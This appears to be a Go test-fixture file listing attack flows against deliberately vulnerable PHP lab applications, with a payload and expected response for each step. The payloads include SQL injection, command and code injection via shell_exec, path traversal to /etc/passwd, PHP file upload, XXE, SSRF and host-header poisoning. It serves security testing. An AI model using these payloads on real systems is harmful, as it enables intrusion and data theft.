package web

const byToken = "token /login.php username password"

// flowsPHP are the flows of PHP with MariaDB: one file a page, or a front controller.
var flowsPHP = []flow{
	{"orders", "php", pairs, byToken, "", "", []step{
		{"/order.php", "bola", "weak", "anna GET /order.php?id=103 => Harbour"},
		{"/invoice.php", "bola", "weak", "anna GET /invoice.php?number=9104 => Harbour"},
		{"/product.php", "bola", "", ""},
		{"/profile.php", "mass", "weak", "anna GET /profile.php ; anna POST /profile.php token={token}&mail=a@lab.example&phone=1&role=admin ; " +
			"anna GET /profile.php => Role: admin"},
	}},
	{"desk", "php", "weak cookie sound", "token /index.php?page=signin user password", "anna root", "", []step{
		{"/index.php?page=people", "bfla", "weak cookie", "anna [Cookie: role=admin] GET /index.php?page=people => root@lab"},
		{"/index.php?page=export", "bfla", "weak cookie", "anna [Cookie: role=admin] GET /index.php?page=export => id,name"},
		{"/index.php?page=role", "bfla", "weak cookie", "anna GET /index.php?page=signin ; " +
			"anna [Cookie: role=admin] POST /index.php?page=role token={token}&person=ben&level=customer => is now"},
		{"/index.php?page=faq", "bfla", "", ""},
	}},
	{"rest", "php", pairs, "json /api/login.php username password", "", "/openapi.json", []step{
		{"/api/accounts.php", "bola", "weak", "anna GET /api/accounts.php?id=12 => iban"},
		{"/api/notes.php", "bola", "weak", "anna GET /api/notes.php?key=n-502 => safe is"},
		{"/api/items.php", "sql", "weak", "anna GET /api/items.php?q=zzz%25'OR'1'LIKE'1 => lamp"},
		{"/api/check.php", "command", "weak", `anna POST /api/check.php {"host":"$((7*191))"} => 1337`},
		{"/api/users.php", "bfla", "weak", "anna GET /api/users.php => root@lab"},
		{"/api/me.php", "mass", "weak", `anna PUT /api/me.php {"role":"admin"} ; anna GET /api/me.php => "admin"`},
	}},
	{"tokens", "php", "none unsigned key kid confusion sound", "form /login.php username password", "", "", []step{
		{"/**", "jwt", "*", "- [Cookie: token={jwt}] GET /admin.php => drawer"},
	}},
	{"uploads", "php", "weak claimed refusing double asis ending outside", byToken, "", "", []step{
		{"/avatar.php", "upload", "weak claimed refusing double", "anna FILE /avatar.php picture {file} image/png <?php echo 7*191; ; " +
			"anna GET /pictures/{file} => 1337"},
	}},
	{"pages", "php", "weak strip list base", "", "", "", []step{
		{"/index.php", "path", "weak strip", "- GET /index.php?page={up}etc/passwd => root:x:0:0"},
		{"/file.php", "path", "weak strip", "- GET /file.php?name={up}etc/passwd => root:x:0:0"},
	}},
	{"modules", "php", pairs, "", "", "", []step{
		{"/index.php", "path", "weak", "- GET /index.php?m=php://filter/convert.base64-encode/resource=settings => PD9waH"},
	}},
	{"lessons", "php", "low medium sound", byToken, "", "", []step{
		{"/number.php", "sql", "low medium", "anna GET /number.php?id=0{quote}+OR+id=1--+- => root@lab"},
		{"/blind.php", "sql", "low medium", "anna GET /blind.php?id=0{quote}+OR+1=1--+- => taken"},
		{"/choice.php", "sql", "low medium", "anna GET /choice.php ; anna POST /choice.php token={token}&id=0{quote}+OR+id=5--+- => sofa"},
		{"/ping.php", "command", "low medium", "anna GET /ping.php ; anna POST /ping.php token={token}&address=$((7*191)) => 1337"},
		{"/include.php", "path", "low medium", "anna GET /include.php?file={up}etc/passwd => root:x:0:0"},
		{"/upload.php", "upload", "low medium", "anna FILE /upload.php file q7.php image/png <?php echo 7*191; ; anna GET /files/q7.php => 1337"},
		{"/greet.php", "xss", "low medium", "anna GET /greet.php?name=<b>q7 => <b>q7"},
		{"/wall.php", "xss", "low medium", "anna GET /wall.php ; anna POST /wall.php token={token}&name=a&text=<b>q7 ; ben GET /wall.php => <b>q7"},
		{"/language.php", "xss", "low medium", ""},
		{"/change.php", "csrf", "low medium", "anna GET /change.php?new=anna-Pass1&again=anna-Pass1&change=Change => Password changed"},
		{"/leave.php", "redirect", "low medium", "anna GET /leave.php?to=//q7.example/ => Location: //q7"},
		{"/index.php", "sql", "", ""},
	}},
	{"unlock", "php", pairs, "form-json /api/login.php username password", "", "", []step{
		{"/api/login.php", "juggling", "weak", `- POST /api/login.php {"username":"root","password":true} => "admin"`},
		{"/voucher.php", "juggling", "weak", "- POST /voucher.php code=QNKCDZO => Valid"},
	}},
	{"prefs", "php", "errors weak signed json", "", "", "", []step{
		{"/**", "deserialization", "errors weak", "- [Cookie: prefs={object}] GET /index.php => root:x:0:0"},
	}},
	{"account", "php", "weak get unchecked referer sound", byToken, "", "", []step{
		{"/mail.php", "csrf", "weak get unchecked", "anna POST /mail.php mail=q7@lab.example ; anna GET /mail.php => q7@lab"},
		{"/password.php", "csrf", "weak get unchecked", "anna POST /password.php new=anna-Pass1&again=anna-Pass1 => was changed"},
		{"/search.php", "csrf", "", ""},
	}},
	{"sessions", "php", "counter name hash signed random", "form /login.php username password", "", "", []step{
		{"/**", "predictable", "counter name hash", "anna GET /account.php ; - [Cookie: sess={guess}] GET /account.php => @lab"},
	}},
	{"letters", "php", "weak slow sound", "", "", "", []step{
		{"/letter.php", "sql", "weak", "- POST /letter.php mail='-SLEEP(2)-' => slow"},
		{"/count.php", "sql", "weak", "- GET /count.php?ref='-SLEEP(2)-' => slow"},
		{"/", "sql", "weak", "- [Cookie: visitor=chair'AND(SELECT(0)FROM(SELECT(SLEEP(2)))v)AND'1] GET / => slow"},
	}},
	{"catalog", "php", "errors quiet escaped help sound", "", "", "", []step{
		{"/product.php", "sql", "errors quiet escaped", "- GET /product.php?id=0+OR+id=3 => lamp"},
		{"/search.php", "sql", "errors quiet", "- POST /search.php q=zzz%25'OR'1'LIKE'1 => lamp"},
		{"/list.php", "sql", "errors quiet escaped", "- GET /list.php?sort=IF(id=5,0,1) => (?s)sofa.*chair"},
		{"/admin.php", "sql", "errors quiet", "- POST /admin.php user=root'--+-&pass=x => Welcome, root"},
		{"/product.php", "error", "errors", "- GET /product.php?id=' => <b>Error</b>: You have"},
	}},
	{"book", "php", "weak strip attr sound", byToken, "", "", []step{
		{"/book.php", "xss", "weak strip", "- GET /book.php ; - POST /book.php token={token}&name=a&text=<b>q7 ; anna GET /book.php => <b>q7"},
		{"/profile.php", "xss", "weak attr", "anna GET /profile.php ; anna POST /profile.php token={token}&website=javascript:q7() ; " +
			"anna GET /profile.php => href=\"javascript:q7"},
		{"/search.php", "xss", "weak attr", "- GET /search.php?q='onfocus=q7 => value=''onfocus=q7"},
	}},
	{"reset", "php", "weak forwarded sound", byToken, "", "", []step{
		{"/forgot.php", "host", "weak forwarded", "- [X-Forwarded-Host: q7.example] [Host: q7.example] POST /forgot.php mail=anna@lab.example ; " +
			"anna GET /outbox.php => http://q7\\.example/set"},
		{"/invite.php", "host", "weak forwarded", "- [X-Forwarded-Host: q7.example] [Host: q7.example] GET /invite.php => http://q7\\.example/join"},
	}},
	{"remains", "php", pairs, "", "", "", []step{
		{"/.git/**", "exposure", "weak", "- GET /.git/HEAD => refs/heads"},
		{"/.env", "exposure", "weak", "- GET /.env => DB_PASSWORD"},
		{"/config.php.bak", "exposure", "weak", "- GET /config.php.bak => db_password"},
		{"/phpinfo.php", "exposure", "weak", "- GET /phpinfo.php => PHP Version"},
		{"/backup/", "exposure", "weak", "- GET /backup/ => site.sql"},
		{"/backup/site.sql", "exposure", "weak", "- GET /backup/site.sql => INSERT"},
	}},
	{"cors", "php", "reflect null suffix sound", byToken, "", "", []step{
		{"/api/card.php", "cors", "*", "anna [Origin: {origin}] GET /api/card.php => Allow-Origin: {origin}(?s).*555"},
	}},
	{"shop", "php", pairs, byToken, "", "", []step{
		{"/cart.php", "logic", "weak", "anna GET /index.php ; anna POST /cart.php token={token}&item=2&price=1&quantity=-3 => Total: -3 "},
		{"/coupon.php", "logic", "weak", "anna GET /index.php ; anna POST /coupon.php token={token}&code=WELCOME10 ; " +
			"anna POST /coupon.php token={token}&code=WELCOME10 => Discount: 20"},
	}},
	{"feeds", "php", pairs, "", "", "", []step{
		{"/import.php", "xxe", "weak", `- GET /index.php ; - POST /import.php token={token}&feed=<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]>` +
			`<feed><title>q7%26e;</title></feed> => q7\w`},
	}},
	{"preview", "php", "weak filter sound", "", "", "", []step{
		{"/card.php", "ssrf", "weak filter", "- GET /card.php?link=http://0x7f000001:{port}/ => <p>Links"},
		{"/picture.php", "ssrf", "weak filter", "- GET /index.php ; - POST /picture.php token={token}&source=http://0x7f000001:{port}/ => <title>Links"},
	}},
	{"tools", "php", pairs, "", "", "", []step{
		{"/sum.php", "code", "weak", "- GET /sum.php?sum=strlen(str_repeat('a',1337)) => 1337"},
		{"/format.php", "code", "weak", "- POST /format.php how=shell_exec&text=echo+$((7*191)) => 1337"},
	}},
	{"signin", "php", pairs, byToken, "", "", []step{
		{"/login.php", "default", "weak", "- GET /login.php ; - POST /login.php token={token}&username=admin&password=admin => ^303"},
		{"/login.php", "enumeration", "weak", "- GET /login.php ; - POST /login.php token={token}&username=zzz&password=x => no such user"},
		{"/login.php", "redirect", "weak", "- GET /login.php ; - POST /login.php token={token}&username=anna&password=anna-Pass1&next=//q7.example/ => Location: //q7"},
		{"/login.php", "limit", "weak", ""},
		{"/**", "cookie", "weak", ""},
		{"/**", "fixation", "weak", "-1 [Cookie: PHPSESSID=0123456789abcdef01234567] GET /login.php ; " +
			"-1 [Cookie: PHPSESSID=0123456789abcdef01234567] POST /login.php token={token}&username=anna&password=anna-Pass1 ; " +
			"-2 [Cookie: PHPSESSID=0123456789abcdef01234567] GET /account.php => anna"},
		{"/account.php", "csrf", "weak", "anna POST /account.php mail=q7@lab.example ; anna GET /account.php => q7@lab"},
	}},
	{"panel", "php", pairs, byToken, "", "", []step{
		{"/panel.php", "overwrite", "weak", "anna GET /panel.php?admin=1 => root@lab"},
	}},
	{"staff", "php", pairs, "", "", "", []step{
		{"/enter.php", "xpath", "weak", "- GET /index.php ; - POST /enter.php token={token}&account=zzz'or'1'='1&word=zzz'or'1'='1 => Welcome"},
		{"/phone.php", "xpath", "weak", "- GET /phone.php?name=zzz'or'1'='1 => 555-0113"},
	}},
	{"office", "php", pairs, byToken, "anna root", "", []step{
		{"/admin/users.php", "continue", "weak", "- GET /admin/users.php => root@lab"},
		{"/admin/export.php", "continue", "weak", "- GET /admin/export.php => id,name"},
		{"/hours.php", "continue", "", ""},
	}},
}
